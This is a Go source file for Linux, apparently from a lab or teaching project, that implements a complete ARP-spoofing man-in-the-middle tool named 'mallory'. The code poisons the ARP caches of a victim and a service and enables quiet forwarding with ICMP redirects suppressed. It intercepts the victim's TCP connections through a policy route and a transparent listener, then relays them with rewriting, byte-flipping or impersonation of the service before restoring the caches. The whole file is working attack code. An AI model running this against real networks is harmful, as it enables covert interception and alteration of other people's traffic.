//go:build linux

package mallory

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"syscall"
	"time"

	"github.com/gopacket/gopacket/layers"
	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// Run poisons, intercepts and relays until ctx ends, then puts the caches
// right again. Its lines:
//
//	mallory IFACE MAC ADDR
//	resolved ADDR is-at MAC
//	intercepting ADDR:PORT
//	poisoned VICTIM: ADDR is-at MAC
//	tampered CLIENT "ORIGINAL" "ALTERED"
//	restored VICTIM: ADDR is-at MAC
func (a *Attack) Run(ctx context.Context) error {
	if a.Logf == nil {
		a.Logf = func(string, ...any) {}
	}
	if a.Every == 0 {
		a.Every = time.Second
	}
	ifc, self, err := a.iface()
	if err != nil {
		return err
	}
	a.Logf("mallory %s %s %s", ifc.Name, ifc.HardwareAddr, self)
	s, err := openPacket(ifc)
	if err != nil {
		return err
	}
	defer s.close()
	victimMAC, err := s.resolve(ctx, ifc.HardwareAddr, self, a.Victim)
	if err != nil {
		return err
	}
	a.Logf("resolved %s is-at %s", a.Victim, victimMAC)
	serviceMAC, err := s.resolve(ctx, ifc.HardwareAddr, self, a.Service)
	if err != nil {
		return err
	}
	a.Logf("resolved %s is-at %s", a.Service, serviceMAC)

	// What mallory does not rewrite it forwards, quietly: no ICMP
	// redirect tells the victims there is a shorter way.
	for _, w := range [][2]string{
		{"/proc/sys/net/ipv4/ip_forward", "1"},
		{"/proc/sys/net/ipv4/conf/all/send_redirects", "0"},
		{"/proc/sys/net/ipv4/conf/" + ifc.Name + "/send_redirects", "0"},
	} {
		if err := os.WriteFile(w[0], []byte(w[1]), 0); err != nil {
			return fmt.Errorf("mallory: %s: %w", w[0], err)
		}
	}
	ln, undo, err := a.intercept(ifc)
	if err != nil {
		return err
	}
	defer undo()
	a.Logf("intercepting %s:%d", a.Service, a.Port)
	relayCtx, stopRelay := context.WithCancel(context.Background())
	relayDone := make(chan error, 1)
	go func() { relayDone <- a.serve(relayCtx, ln) }()

	poison := []ARPFrame{
		Spoof(ifc.HardwareAddr, a.Service, victimMAC, a.Victim),
		Spoof(ifc.HardwareAddr, a.Victim, serviceMAC, a.Service),
	}
	for _, f := range poison {
		if err := s.send(f); err != nil {
			stopRelay()
			return err
		}
		a.Logf("poisoned %s: %s is-at %s", f.TargetIP, f.SenderIP, f.SenderMAC)
	}
	t := time.NewTicker(a.Every)
	defer t.Stop()
	var runErr error
loop:
	for {
		select {
		case <-ctx.Done():
			break loop
		case err := <-relayDone:
			runErr = err
			break loop
		case <-t.C:
			for _, f := range poison {
				if err := s.send(f); err != nil {
					runErr = err
					break loop
				}
			}
		}
	}
	stopRelay()
	undo()
	// The truth, told three times: a cache that missed one frame still
	// learns it.
	restore := []ARPFrame{
		{EthSrc: ifc.HardwareAddr, EthDst: victimMAC, Op: layers.ARPRequest, SenderMAC: serviceMAC, SenderIP: a.Service, TargetMAC: make(net.HardwareAddr, 6), TargetIP: a.Victim},
		{EthSrc: ifc.HardwareAddr, EthDst: serviceMAC, Op: layers.ARPRequest, SenderMAC: victimMAC, SenderIP: a.Victim, TargetMAC: make(net.HardwareAddr, 6), TargetIP: a.Service},
	}
	for i := range 3 {
		for _, f := range restore {
			if err := s.send(f); err != nil {
				return errors.Join(runErr, err)
			}
			if i == 0 {
				a.Logf("restored %s: %s is-at %s", f.TargetIP, f.SenderIP, f.SenderMAC)
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	return runErr
}

// serve does what the attack's mode does with every connection it takes.
func (a *Attack) serve(ctx context.Context, ln net.Listener) error {
	upstream := netip.AddrPortFrom(a.Service, a.Port).String()
	onError := func(err error) { a.Logf("relay error: %v", err) }
	switch a.Mode {
	case ModeFlip:
		return (&FlipRelay{Upstream: upstream, OnError: onError, OnFlipped: func(c net.Addr, n int) {
			a.Logf("flipped %s %d", c, n)
		}}).Serve(ctx, ln)
	case ModeImpersonate:
		return (&Impersonator{Fortune: Rewrite("mallory has a fortune of its own.\n"), OnHandshake: func(c net.Addr, err error) {
			if err != nil {
				a.Logf("impersonation %s refused: %v", c, err)
				return
			}
			a.Logf("impersonation %s accepted", c)
		}}).Serve(ctx, ln)
	}
	return (&Relay{
		Upstream:   upstream,
		Rewrite:    Rewrite,
		OnTampered: func(t Tampered) { a.Logf("%s", TamperedLine(t)) },
		OnError:    onError,
	}).Serve(ctx, ln)
}

// iface finds mallory's interface on the wire and its address there.
func (a *Attack) iface() (*net.Interface, netip.Addr, error) {
	ifs, err := net.Interfaces()
	if err != nil {
		return nil, netip.Addr{}, err
	}
	for _, ifc := range ifs {
		if a.Iface != "" && ifc.Name != a.Iface {
			continue
		}
		addrs, _ := ifc.Addrs()
		for _, ad := range addrs {
			ipn, ok := ad.(*net.IPNet)
			if !ok {
				continue
			}
			p, ok := netip.AddrFromSlice(ipn.IP.To4())
			if !ok {
				continue
			}
			ones, _ := ipn.Mask.Size()
			if netip.PrefixFrom(p, ones).Masked().Contains(a.Victim) && len(ifc.HardwareAddr) == 6 {
				return &ifc, p, nil
			}
		}
	}
	return nil, netip.Addr{}, fmt.Errorf("mallory: no Ethernet interface %s with an address in %s's subnet", a.Iface, a.Victim)
}

// intercept makes the kernel take the victim's connections to the
// service as mallory's own, without nftables or iptables: a policy rule
// sends TCP to the service's port that arrives on the wire to a table
// where the service's address is local, and a listener with
// IP_TRANSPARENT accepts them on that address (and may answer from it).
// Mallory's own connection to the real service starts here, not on the
// wire, so the rule leaves it to the main table: out to fcs00.
func (a *Attack) intercept(ifc *net.Interface) (net.Listener, func(), error) {
	lo, err := netlink.LinkByName("lo")
	if err != nil {
		return nil, nil, fmt.Errorf("mallory: find lo: %w", err)
	}
	route := &netlink.Route{
		LinkIndex: lo.Attrs().Index, Table: interceptTable, Type: unix.RTN_LOCAL, Scope: netlink.SCOPE_HOST,
		Dst: &net.IPNet{IP: a.Service.AsSlice(), Mask: net.CIDRMask(32, 32)},
	}
	rule := netlink.NewRule()
	rule.Family = netlink.FAMILY_V4
	rule.Priority = interceptPriority
	rule.Table = interceptTable
	rule.IifName = ifc.Name
	rule.IPProto = unix.IPPROTO_TCP
	rule.Dport = netlink.NewRulePortRange(a.Port, a.Port)
	_ = netlink.RuleDel(rule) // a run before this one that was killed
	_ = netlink.RouteDel(route)
	if err := netlink.RouteAdd(route); err != nil {
		return nil, nil, fmt.Errorf("mallory: route %s as local in table %d: %w", a.Service, interceptTable, err)
	}
	if err := netlink.RuleAdd(rule); err != nil {
		_ = netlink.RouteDel(route)
		return nil, nil, fmt.Errorf("mallory: rule for tcp port %d from %s: %w", a.Port, ifc.Name, err)
	}
	done := false
	undo := func() {
		if done {
			return
		}
		done = true
		_ = netlink.RuleDel(rule)
		_ = netlink.RouteDel(route)
	}
	lc := net.ListenConfig{Control: func(_, _ string, c syscall.RawConn) error {
		var serr error
		if err := c.Control(func(fd uintptr) {
			serr = unix.SetsockoptInt(int(fd), unix.SOL_IP, unix.IP_TRANSPARENT, 1)
		}); err != nil {
			return err
		}
		return serr
	}}
	ln, err := lc.Listen(context.Background(), "tcp4", netip.AddrPortFrom(a.Service, a.Port).String())
	if err != nil {
		undo()
		return nil, nil, fmt.Errorf("mallory: listen on %s:%d: %w", a.Service, a.Port, err)
	}
	return ln, func() { ln.Close(); undo() }, nil
}

// packetSocket is an AF_PACKET socket for ARP on one interface.
type packetSocket struct {
	fd  int
	ifc *net.Interface
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func openPacket(ifc *net.Interface) (*packetSocket, error) {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ARP)))
	if err != nil {
		return nil, fmt.Errorf("mallory: packet socket: %w", err)
	}
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ARP), Ifindex: ifc.Index}); err != nil {
		unix.Close(fd)
		return nil, fmt.Errorf("mallory: bind packet socket to %s: %w", ifc.Name, err)
	}
	tv := unix.NsecToTimeval((200 * time.Millisecond).Nanoseconds())
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
		unix.Close(fd)
		return nil, err
	}
	return &packetSocket{fd: fd, ifc: ifc}, nil
}

func (s *packetSocket) close() { unix.Close(s.fd) }

// send writes f to the wire.
func (s *packetSocket) send(f ARPFrame) error {
	b, err := f.Marshal()
	if err != nil {
		return err
	}
	to := &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ARP), Ifindex: s.ifc.Index, Halen: 6}
	copy(to.Addr[:], f.EthDst)
	if err := unix.Sendto(s.fd, b, 0, to); err != nil {
		return fmt.Errorf("mallory: send %s: %w", f, err)
	}
	return nil
}

// resolve asks the wire who has ip, as the kernel would, and returns the
// hardware address of the answer.
func (s *packetSocket) resolve(ctx context.Context, mac net.HardwareAddr, self, ip netip.Addr) (net.HardwareAddr, error) {
	buf := make([]byte, 1500)
	for range 10 {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		if err := s.send(Who(mac, self, ip)); err != nil {
			return nil, err
		}
		deadline := time.Now().Add(300 * time.Millisecond)
		for time.Now().Before(deadline) {
			n, _, err := unix.Recvfrom(s.fd, buf, 0)
			if err != nil {
				if errors.Is(err, unix.EAGAIN) || errors.Is(err, unix.EINTR) {
					continue
				}
				return nil, fmt.Errorf("mallory: read the wire: %w", err)
			}
			f, err := ParseARP(buf[:n])
			if err == nil && f.Op == layers.ARPReply && f.SenderIP == ip {
				return f.SenderMAC, nil
			}
		}
	}
	return nil, fmt.Errorf("mallory: nobody on the wire answers for %s", ip)
}
